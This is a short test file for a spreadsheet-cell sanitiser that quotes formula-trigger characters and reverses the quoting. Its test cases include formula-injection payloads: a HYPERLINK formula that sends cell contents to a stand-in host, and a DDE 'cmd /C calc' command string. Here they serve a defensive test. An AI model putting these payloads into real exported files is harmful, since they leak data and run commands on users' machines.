from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intersector.domain.cells import FORMULA_TRIGGERS, neutralise, restore


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"x")', '\'=HYPERLINK("http://x.example/?"&A1,"x")'),
        ("+1 for IMT", "'+1 for IMT"),
        ("-based access", "'-based access"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd|' /C calc'!A0", "'\tcmd|' /C calc'!A0"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),
        ("IMT-2030 = the next generation", "IMT-2030 = the next generation"),
        ("", ""),
    ],
)
def test_formula_triggers_are_quoted(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text


@given(st.text())
def test_any_text_comes_back_and_never_starts_a_formula(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(FORMULA_TRIGGERS)
